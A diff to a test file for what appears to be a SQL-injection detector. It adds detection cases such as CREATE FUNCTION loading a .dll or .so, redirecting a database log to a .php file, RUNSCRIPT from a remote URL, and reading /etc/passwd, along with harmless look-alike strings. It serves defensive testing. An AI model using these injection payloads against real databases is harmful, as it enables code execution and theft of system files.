@@ -79,6 +79,12 @@ describe('what is done is named', () => {
     ["'; exec master..xp_cmdshell 'dir'--", 'system procedure'],
     ["1'; create alias if not exists x as concat('a', 'b')--", 'CREATE statement'],
     ["1' procedure analyse(1,1)-- -", 'PROCEDURE ANALYSE'],
+    ["create function x returns integer soname 'x.dll'", 'CREATE statement'],
+    ["create or replace function f(text) returns int as '/tmp/x.so', 'f'", 'CREATE statement'],
+    ["set global general_log_file = '/srv/x.php'", 'SET statement'],
+    ["runscript from 'https://a.example/x.sql'", 'RUNSCRIPT statement'],
+    ["select * from url('https://a.example/', 'csv')", 'SELECT statement'],
+    ["select * from read_text('/etc/passwd')", 'SELECT statement'],
     ["1' order by 3-- -", 'ORDER BY'],
     ["admin'-- -", 'comment cuts off the query'],
     ["' and (select table_name from information_schema.tables)='a", 'database catalog'],
@@ -107,6 +113,11 @@ test('a path is read from its last segment', () => {
 
 describe('harmless text', () => {
   test.each([
+    "select * from read_csv('data.csv')",
+    'select url from remote where file = glob',
+    "create function f(x int) returns int as 'select 1' language sql",
+    'set global max_connections = 100',
+    'run the script from the folder; set global state',
     "Tom & Jerry's",
     "where name like '%abc%'",
     "rock 'n' roll -- great",
